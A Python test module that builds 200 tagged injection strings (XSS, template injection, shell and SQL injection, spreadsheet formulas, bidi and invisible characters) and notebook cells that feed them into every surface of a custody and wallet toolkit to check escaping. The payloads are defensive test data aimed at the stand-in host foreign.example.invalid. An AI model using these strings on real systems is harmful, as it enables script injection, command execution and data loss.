"""200 hostile strings, and the notebook's cells that bring each of them to every surface of the toolkit.

Each string carries its tag, ``h000`` to ``h199``. What works as a script sets ``window.__ran``; what works as a
reference asks ``foreign.example.invalid`` for its tag. Both can be seen from outside.
"""

from __future__ import annotations

from typing import Final

import msgspec

from toolkit.base.hidden import hidden_at
from toolkit.base.html import LONGEST
from toolkit.base.inert import inert
from toolkit.base.text import escape_hidden
from toolkit.request.snippets import literal, quoted

LOOKED_AT = 250  # characters of a string that must be seen; overlong ones are cut on most surfaces
RUN = "window.__ran='{n}'"
FETCH = "http://foreign.example.invalid/{n}"

# family → strings. {run} sets window.__ran, {url} is a foreign address, {n} the tag. None begins or ends in a blank:
# forms take those away.
FAMILIES: Final[dict[str, tuple[str, ...]]] = {
    "elements": (
        "<script>{run}</script>",
        "<ScRiPt>{run}</sCrIpT>",
        "<script src={url}></script>",
        "<script type=module>import '{url}'</script>",
        "<img src={url}>",
        "<img src=x onerror=\"{run}\">",
        "<IMG SRC=x ONERROR={run}//",
        "<img srcset='{url} 2x'>",
        "<picture><source srcset={url}><img></picture>",
        "<video poster={url}><source src={url} onerror={run}></video>",
        "<audio src={url} autoplay onerror={run}>",
        "<track src={url}>{n}",
        "<input type=image src={url} onfocus={run} autofocus>",
        "<button form=f formaction=javascript:{run}>{n}</button>",
        "<textarea autofocus onfocus={run}>{n}",
        "<select autofocus onfocus={run}>{n}",
        "<details open ontoggle={run}>{n}</details>",
        "<marquee onstart={run}>{n}</marquee>",
        "<body onload={run}>{n}",
        "<form action={url}><button>{n}</button></form>",
        "<template><script>{run}</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror={run}>\">{n}",
        "<!--><img src=x onerror={run}>-->{n}",
        "<![CDATA[<img src=x onerror={run}>]]>{n}",
        "<a href='javascript:{run}'>{n}</a>",
        "<a href={url} ping={url}>{n}</a>",
        "<table background={url}><td>{n}",
        "<plaintext>{n}",
        "<dialog open>{n}</dialog>",
        "<x-element onclick={run} tabindex=1 autofocus>{n}",
    ),
    "attributes": (
        "\" onmouseover=\"{run}",
        "' onfocus='{run}' autofocus='{n}",
        "\" autofocus onfocus={run} x=\"{n}",
        "`\"'><img src=x onerror={run}>",
        "\"><svg onload={run}>{n}",
        "'></option><img src=x onerror={run}>",
        "</bdi></span><script>{run}</script>",
        "</option></select><img src={url}>",
        "</title></textarea></style><script>{run}</script>",
        "--><script>{run}</script><!--{n}",
        "]]><script>{run}</script>",
        "x style=animation-name:x onanimationstart={run}",
        "\" style=\"background:url({url})",
        "tk-say\" onclick=\"{run}",
    ),
    "svg": (
        "<svg onload={run}>{n}</svg>",
        "<svg><script>{run}</script></svg>",
        "<svg><script href={url} /></svg>",
        "<svg><animate onbegin={run} attributeName=x dur=1s>{n}",
        "<svg><set attributeName=href to=javascript:{run}>{n}",
        "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
        "<svg><use href='{url}#a'/></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=a onload={run}/>#a'/></svg>",
        "<svg><image href={url} /></svg>",
        "<svg><feImage href={url} /></svg>",
        "<svg><style>@import '{url}';</style></svg>",
        "<svg><a xlink:href='javascript:{run}'><text>{n}</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
        "<math href='javascript:{run}'>{n}</math>",
    ),
    "styles": (
        "<style>@import '{url}';</style>",
        "<style>*{{background:url({url})}}</style>",
        "</style><script>{run}</script>",
        "<div style=\"background:url('{url}')\">{n}</div>",
        "<div style='position:fixed;inset:0;z-index:9999'>{n}</div>",
        "<link rel=stylesheet href={url}>",
        "background-image:url({url})",
        "@import url({url});",
        "}} * {{ background: url({url}); }} a {{",
        "expression({run})",
    ),
    "frames": (
        "<iframe src={url}></iframe>",
        "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        "<iframe src=\"javascript:parent.{run}\"></iframe>",
        "<object data={url}></object>",
        "<object data='data:text/html,<script>{run}</script>'></object>",
        "<embed src={url}>",
        "<base href={url}>",
        "<meta http-equiv=refresh content='0;url={url}'>",
        "<link rel=prefetch href={url}>",
        "<link rel=import href={url}>",
        "<frameset><frame src={url}></frameset>",
        "<portal src={url}></portal>",
    ),
    "templates": (
        "{{{{7*7}}}} {n}",
        "${{7*7}} {n}",
        "{{% print(7*7) %}} {n}",
        "{{{{ ''.__class__.__mro__ }}}} {n}",
        "#{{7*7}} {n}",
        "<%= 7*7 %> {n}",
        "{{{{constructor.constructor('{run}')()}}}}",
        "{{0.__class__}} {n}",
        "%(name)s %s %n {n}",
        "{{# comment #}} {n}",
    ),
    "addresses": (
        "javascript:{run}",
        "JaVaScRiPt:{run}",
        "java\tscript:{run}",
        "javascript://%0a{run}",
        "data:text/html,<script>{run}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==#{n}",
        "vbscript:{run}",
        "{url}",
        "//foreign.example.invalid/{n}",
        "blob:{url}",
        "file:///etc/passwd#{n}",
        "view-source:{url}",
    ),
    "markdown": (
        "![x]({url})",
        "[x](javascript:{run})",
        "[x]({url} \"{n}\")",
        "<{url}>",
        "**{n}** _x_ `y`",
        "```\n<script>{run}</script>\n```",
        "# {n}\n\n---",
        "|a|b|\n|-|-|\n|{n}|![x]({url})|",
    ),
    "mathematics": (
        "$$\\href{{{url}}}{{x}}$$ {n}",
        "$\\href{{javascript:{run}}}{{Alice}}$",
        "\\(\\href{{javascript:{run}}}{{x}}\\) {n}",
        "\\[\\unicode{{x202E}}\\] {n}",
        "$\\phantom{{Mallory}}$ {n}",
        "$\\def\\x{{\\x}}\\x$ {n}",
        "\\begin{{align}}{n}\\end{{align}}",
        "$\\style{{background:url({url})}}{{x}}$ {n}",
        "$\\class{{jp-mod-x}}{{\\cssId{{main}}{{x}}}}$ {n}",
        "$$\\require{{html}}\\href{{{url}}}{{x}}$$",
    ),
    "entities": (
        "&lt;img src=x onerror={run}&gt;",
        "&amp;lt;script&amp;gt;{run}",
        "&#60;script&#62;{run}&#60;/script&#62;",
        "&#x3c;img src={url}&#x3e;",
        "&lt{n};script",
        "%3Cscript%3E{run}%3C/script%3E",
        "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
        "\\x3cimg src={url}\\x3e",
        "&NewLine;&Tab;&ZeroWidthSpace;{n}",
        "&#8238;{n}&#8236;",
    ),
    "breaking out": (
        "'; {run}; //",
        "\"; {run}; //",
        "\\'; {run}; //",
        "${{{run}}}`{n}`",
        "\",\"signer\":true,\"x\":\"{n}",
        "\\\",\\\"x\\\":\\\"{n}",
        "{{\"error\":\"{n}\"}}",
        "'''\nimport os; os.abort()\n''' {n}",
        "\"\"\"{n}\"\"\" + __import__('os').abort() #",
        "$(touch /tmp/{n}) `id` !!",
        "'$(id)'\"; rm -rf x; # {n}",
        "|{n}|POST|/v2|",
        "' OR 1=1; DROP TABLE entries; -- {n}",
        "\\{n}\\",
    ),
    "controls": (
        "{n}\0<img src=x onerror={run}>.",
        "{n}\x1b[31mred\x1b[0m\x1b]8;;{url}\x07link\x1b]8;;\x07.",
        "{n}\x1b[2J\x1b[1;1H\x9b31mgone.",
        "{n}\b\b\b\bAlice",
        "{n}\x7f\x80\x9f.",
        "{n}\r\nSet-Cookie: a=b",
        "{n}\rAlice Moreau",
        "{n}\n1  Alice Moreau  API",
        "{n}\tx\x0b\x0c\x1c\x1d\x1e\x1f\x85.",
        "<scr\0ipt>{run}</script>",
        "{n}\ufffe\uffff.",
        "{n}\x01\x02\x03\x04\x05\x06.",
    ),
    "direction": (
        "{n}\u202egnp.exe",
        "{n}\u202dltr\u202c.",
        "{n}\u202a\u202b\u202c.",
        "{n}\u2066\u2067\u2068\u2069.",
        "{n}\u2067Alice\u2069 \u2066<img src=x onerror={run}>\u2069.",
        "{n}\u200e\u200f\u061c.",
        "\u202e{n}\u202e\u202e\u202e.",
        "\u05e9\u05dc\u05d5\u05dd {n} \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    ),
    "invisible": (
        "{n}\u200bAlice.",
        "{n}\u200c\u200d\u2060\ufeff.",
        "{n}\u00ad\u034f\u180e.",
        "{n}\u115f\u1160\u3164\uffa0\u2800.",
        "{n}\u00a0\u2003\u202f\u3000.",
        "{n}\u2028\u2029.",
        "{n}\ufe0f\ufe0e\U000e0100.",
        "{n}\U000e0041\U000e006c\U000e0069\U000e007f.",
        "{n}\ue000\U000f0000\U0010fffd.",
        "\u200b\u200b{n}\u200b.",
        "<\u200bscript>{run}<\u200b/script>",
        "{n}\u2061\u2064\ufff9\ufffb\u2065\ufff0\u17b4\u180b\U000e0002.",
    ),
    "floods": (
        "Z\u0351\u0352\u0357\u0310\u0313\u0314 {n}" + "a" + "\u0300\u0489" * 60,
        "{n}" + "\u0e01" + "\u0e47" * 120,
        "{n} \U0001f468\u200d\U0001f469\u200d\U0001f467.",
        "{n}" + "\u200b" * 300 + ".",
        "{n}" + "x" * 100_000,
        "{n}" + "<b>" * 33_000,
        "{n}" + "\u202e" * 2_000 + ".",
        "{n}" + "&" * 5_000,
    ),
    "look-alikes": (
        "\u0410lice M\u043ereau {n}",
        "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
        "\u2039img src=x onerror={run}\u203a",
        "{n} \u212akelvin \ufb01 \u017f",
        "{n} 1 l I | O 0",
        "COBO \u2713 verified {n}",
        "EMULATOR \u00b7 nothing leaves {n}",
    ),
    "spreadsheets": (
        "=cmd|'/c calc'!{n}",
        "=HYPERLINK(\"{url}\")",
        "+1+1+cmd|{n}",
        "-2+3+{n}",
        "@SUM(1+{n})",
        "=IMPORTXML(\"{url}\",\"//a\")",
        "{n},\"x\",\"\ny\"",
        ";{n};'",
        "=1+1 {n}",
    ),
}  # fmt: skip


def strings() -> list[str]:
    """The strings, each with its own tag: the one at ``number`` carries ``h`` and three digits."""
    patterns = [pattern for family in FAMILIES.values() for pattern in family]
    made = []
    for number, pattern in enumerate(patterns):
        n = f"h{number:03d}"
        made.append(pattern.format(n=n, run=RUN.format(n=n), url=FETCH.format(n=n)))
    return made


# ---- how a string looks on a surface that keeps the rule ------------------------------------------


def chipped(text: str) -> str:
    """The text of ``cards.visible``: each hidden character as U+XXXX."""
    places = hidden_at(text)
    return "".join(f"U+{ord(c):04X}" if at in places else c for at, c in enumerate(text))


def written_out(text: str) -> str:
    """As tables have it: line ends are written out, too."""
    return escape_hidden(text).replace("\n", "\\u000a")


def in_json(text: str) -> str:
    """As the bytes that travel, looked at."""
    return chipped(msgspec.json.encode(text).decode()[1:-1])


def in_shell(text: str) -> str:
    """As an argument of curl."""
    shown = quoted(msgspec.json.encode(text).decode())
    return shown[3:-2] if shown.startswith("$") else shown[2:-2]


SPELLINGS = {
    "chips": lambda text: chipped(text[:LOOKED_AT]),
    "error": lambda text: written_out(text)[:LOOKED_AT],
    "table": lambda text: inert(text)[:LOOKED_AT],
    "printed": lambda text: escape_hidden(text)[:LOOKED_AT],
    "bytes": lambda text: in_json(text[:LOOKED_AT]),
    "python": lambda text: literal(text[:LOOKED_AT])[1:-1],
    "shell": lambda text: in_shell(text[:LOOKED_AT]),
    "option": lambda text: " ".join(text[:LOOKED_AT].split()),
}
assert LOOKED_AT < LONGEST


# ---- the notebook ----------------------------------------------------------------------------------

WORLD = """import json
from pathlib import Path

import ipywidgets as w
import pandas as pd
from IPython.display import display
from msgspec.structs import replace

import toolkit
from toolkit import Emulator, cobo, frames, privy
from toolkit.base.html import render
from toolkit.cobo.forms import api_key as api_key_cards, group as group_cards, tss as tss_cards
from toolkit.emulator import Fault
from toolkit.errors import ApiError, InDoubt, ToolkitError
from toolkit.privy.forms import quorum as quorum_cards, wallet as wallet_cards

strings = json.loads(Path("strings.json").read_text())
emulator = Emulator.seeded(choices={"cobo.unknown_node": "online"})
custody, app = emulator.cobo_client(), emulator.privy_client()
state, now = emulator.cobo.state, emulator.clock.now_ms()
keys = [emulator.authorization_keys[name] for name in ("Alice", "Bob", "Omar")]
publics = [key.public.to_base64() for key in keys]


def holder(s):
    return cobo.KeyShareHolder(name=s, type=s, tss_node_id=s, online=False, signer=True, status=s, account_id=s)


def share(s):
    return cobo.models.TSSKeyShareGroup(tss_key_share_group_id=s, curve=s, root_pubkey=s)


def group_of(texts, kind, status):
    return cobo.KeyShareHolderGroup(
        key_share_holder_group_id=state.uuid(), type=kind, status=status, threshold=2, participants=3,
        key_share_holders=[holder(s) for s in texts], tss_key_share_groups=[share(s) for s in texts], created_timestamp=now,
    )


def quorum_named(name, **members):
    return privy.KeyQuorum(
        id=emulator.privy.cuid(), display_name=name, authorization_threshold=1,
        authorization_keys=[privy.models.AuthorizationKey(key) for key in publics], **members,
    )


def kept(quorum):
    emulator.privy.quorums[quorum.id] = quorum
    return quorum


for s in strings:
    vault = cobo.MPCVault(
        vault_id=state.uuid(), name=s, type="Org-Controlled", created_timestamp=now,
        root_pubkeys=[cobo.models.RootPubkey(s, "SECP256K1"), cobo.models.RootPubkey(s, "ED25519")],
    )
    state.vaults[vault.vault_id] = vault
    wallet = privy.Wallet(id=emulator.privy.cuid(), address=s, chain_type=s, created_at=now, display_name=s)
    emulator.privy.wallets[wallet.id] = wallet
crowded = list(state.vaults)[3]  # a vault in which each string is the type, status and node of a group
state.groups_of(crowded).update({group.key_share_holder_group_id: group for s in strings for group in [group_of([s], s, s)]})
everyone, one = group_of(strings, "SigningGroup", "New"), group_of(strings[:1], "SigningGroup", "New")
for group in (everyone, one):
    state.groups[emulator.vault_id][group.key_share_holder_group_id] = group
info = replace(
    next(iter(emulator.cobo.keys.values())), name=strings[0], callback_url=strings[1], valid_ips=strings,
    role_scopes=[cobo.models.RoleScope(role_name="API_Admin", scopes=cobo.models.Scopes()),
                 cobo.models.RoleScope(role_name="API_Spender", scopes=cobo.models.Scopes(wallet_ids=strings, vault_ids=strings))],
)
emulator.cobo.keys[info.key] = info
scoped = cobo.models.Scopes(vault_ids=strings)
pd.options.display.max_rows, pd.options.display.max_columns, pd.options.display.max_colwidth = None, None, 260
None"""

# stage → what is shown first, and ``step``, which then brings one string to it, after another
STAGES: Final[dict[str, tuple[str, str]]] = {
    "group": (
        "form = cobo.forms.create_key_share_holder_group(custody, vault_id=crowded, nodes=strings)\ndisplay(form)",
        """def step(s, before):
    with form.quietly():
        for row in form.rows:
            row.fields["name"].value = row.fields["tss_node_id"].value = s
    made = replace(group_of([s], s, s), key_share_holder_group_id=s)
    form.after.card.value = group_cards.result_card(made, s)""",
    ),
    "tss": (
        """form = cobo.forms.create_tss_request(custody, emulator.vault_id, one)
display(cobo.forms.create_tss_request(custody, emulator.vault_id, everyone), form)""",
        """def step(s, before):
    form.description.value = s
    request = cobo.TSSRequest(tss_request_id=s, type=s, status=s)
    form.group = group_of([s], "SigningGroup", s)
    form.refresh()
    form.after.card.value = tss_cards.progress_card(request, form.group)""",
    ),
    "api key": (
        """form = cobo.forms.api_key_info(custody)
display(form)
form.submit()
None""",
        """def step(s, before):
    scopes = cobo.models.Scopes(wallet_types=["MPC", s], wallet_subtypes=["Org-Controlled", s], wallet_ids=[s], vault_ids=[s], project_ids=[s])
    each = replace(info, name=s, key=s, curve_type=s, callback_url=s, valid_ips=[s], role_scopes=[cobo.models.RoleScope(role_name=s, scopes=scopes)])
    form.after.card.value = api_key_cards.api_key_card(each, now, {s: s})
    form.in_vault.value = api_key_cards.vault_card(each, s, s, now)""",
    ),
    "quorum": (
        """form = privy.forms.create_key_quorum(app)
form.members.add("Quorum", "")
form.members.add("User", "")
display(form)""",
        """def step(s, before):
    form.members.nested = {s: quorum_named(s, user_ids=[s]), "a" * 24: quorum_named(s, user_ids=[s])}
    with form.quietly():
        form.members.display_name.value = s
        for row in form.members.rows:
            row.fields["text"].value = "a" * 24 if row.fields["kind"].value == "Quorum" else s
    made = quorum_named(s, user_ids=[s], key_quorum_ids=[s])
    form.after.card.value = quorum_cards.result_card(replace(made, id=s), form.members.nested, "Key quorum made")""",
    ),
    "change": (
        """nested = kept(quorum_named(strings[0]))
quorum = kept(quorum_named(strings[-1], user_ids=["did:privy:" + s for s in strings[:5]], key_quorum_ids=[nested.id]))
form = privy.forms.update_key_quorum(app, quorum, signers=keys[:1])
display(form)""",
        """def step(s, before):
    form.cosigned.nested = form.members.nested = {nested.id: replace(nested, display_name=s)}
    form.cosigned.quorum = replace(quorum, display_name=before)
    form.cosigned._unread = f"A nested quorum could not be read: {ToolkitError(s).what}"
    form.members.display_name.value = s
    head = render("head.html", title=f"Change key quorum: {s}", place=s, call=s, live=False)
    form.children[0].value = head[head.index("</style>") :]  # a new sheet each time makes the page slow""",
    ),
    "delete": (
        """quorum = kept(quorum_named(strings[0], user_ids=strings))
form = privy.forms.delete_key_quorum(app, quorum, signers=keys[:1])
display(form)""",
        """form._wallets_read = lambda job: None

def step(s, before):
    form.cosigned.quorum = replace(quorum, display_name=s, user_ids=[s])
    form._owned = [replace(wallet, display_name=s, owner_id=quorum.id)]
    form.refresh()
    form.after.card.value = form.spec.result(None)""",
    ),
    "wallets": (
        """owner = kept(quorum_named(strings[0]))
form = privy.forms.update_wallet(app, owner)
fresh = privy.forms.create_wallet(app, owner)
display(form, fresh)""",
        """def step(s, before):
    form.owner = replace(owner, display_name=s)
    form.refresh()
    form.after.card.value = wallet_cards.result_card(replace(wallet, id=s, display_name=s, chain_type=s, address=s, owner_id=s), form.owner, "Owner changed")
    fresh.display_name.value = s""",
    ),
    "refusals": (
        """from toolkit.emulator.core import Reply
form = privy.forms.create_key_quorum(app)
for row, public in zip(form.members.rows, publics):
    row.fields["text"].value = public
reader = cobo.forms.api_key_info(custody)
display(form, reader)""",
        """refused = []

def step(s, before):
    emulator.privy.refused = lambda refusal, entry: Reply(400, json.dumps({"error": s, "code": s}).encode(), (("Content-Type", "application/json"),))
    emulator.cobo.refused = lambda refusal, entry: emulator.cobo._signed(400, json.dumps({"error_code": 2006, "error_message": s, "error_id": s}).encode())
    emulator.inject(Fault("status-before", status=400, times=2))
    form.receipts.shown.clear()  # one at a time: 200 of them, sent 200 times, make the page slow
    form.members.display_name.value = f"quorum {strings.index(s)}"
    for each in (form, reader):
        try:
            each.submit()
        except ToolkitError:
            refused.append(each.exchange)""",
    ),
    "doubt": (
        """entry = replace(emulator.journal.entries()[0], state="doubt", made=None, settled_ms=None)
doubted = app.call_of(entry)
from toolkit.forms.in_doubt import InDoubtCard
card, settled = InDoubtCard(app, entry), InDoubtCard(app, entry)
display(card, settled)""",
        """def step(s, before):
    doubt = InDoubt("In doubt.", number=entry.number, because=None, history=(), candidates=(s,), hint="")
    card._tell(replace(entry, history=((now, s),)), doubt)
    card._say("high", str(ApiError(s, status=400)))
    settled._tell(replace(entry, state="adopted", made=s), None)""",
    ),
    "connect": (
        """desk = toolkit.connect(emulator)
desk.privy_panel.place.value, desk.cobo_panel.place.value = "STAGING", "DEV"
display(desk)""",
        """def step(s, before):
    desk.privy_panel.app_id.value = s
    desk.privy_panel.secret.field.value = s
    desk.privy_panel._press(None)  # refuses the app id before anything could leave
    desk.cobo_panel._checked(custody, ApiError(s, status=400))""",
    ),
    "tables": (
        """requests = [cobo.TSSRequest(tss_request_id=s, type=s, status=s, description=s, target_key_share_holder_group_id=s) for s in strings]
quorums = [privy.KeyQuorum(id=s, display_name=s, authorization_keys=[privy.models.AuthorizationKey(s, s)], user_ids=[s], key_quorum_ids=[s]) for s in strings]
infos = [replace(info, name=s, curve_type=s, key=s, callback_url=s, valid_ips=[s]) for s in strings]
display(frames.vaults(list(custody.iterate(cobo.list_mpc_vaults(limit=50)))))
groups = list(custody.iterate(cobo.list_key_share_holder_groups(crowded, limit=50)))
display(frames.groups(groups), frames.holders(groups), frames.tss_key_share_groups(groups), frames.tss_requests(requests))
display(frames.api_key(infos), frames.role_scopes(replace(info, role_scopes=[cobo.models.RoleScope(role_name=strings[0], scopes=scoped)])))
display(frames.key_quorums(quorums), frames.quorum_members(quorums), frames.wallets(list(app.iterate(privy.list_wallets(limit=100)))))
display(frames.holders(groups).set_index("name")[["type"]])""",
        "",
    ),
    "texts": (
        """for s in strings:
    error = ApiError(s, status=400, hint=s)
    error.explain(s)
    print(error)
form = privy.forms.update_key_quorum(app, kept(quorum_named(strings[-10])))
print(frames.holders(groups), repr(form))""",
        "",
    ),
}  # fmt: skip

# stage → what is shown once every string has been there
AFTERWARDS: Final[dict[str, str]] = {
    "refusals": """emulator.inject()
del emulator.privy.refused, emulator.cobo.refused
assert len(refused) == 2 * len(strings)
display(frames.exchanges(refused[::2]), frames.journal([replace(entry, made=s) for entry, s in zip(emulator.journal.entries(), strings)]))""",
}

RAISES = """error = ApiError("\\n".join(s[:200] for s in strings), status=400)
raise error"""
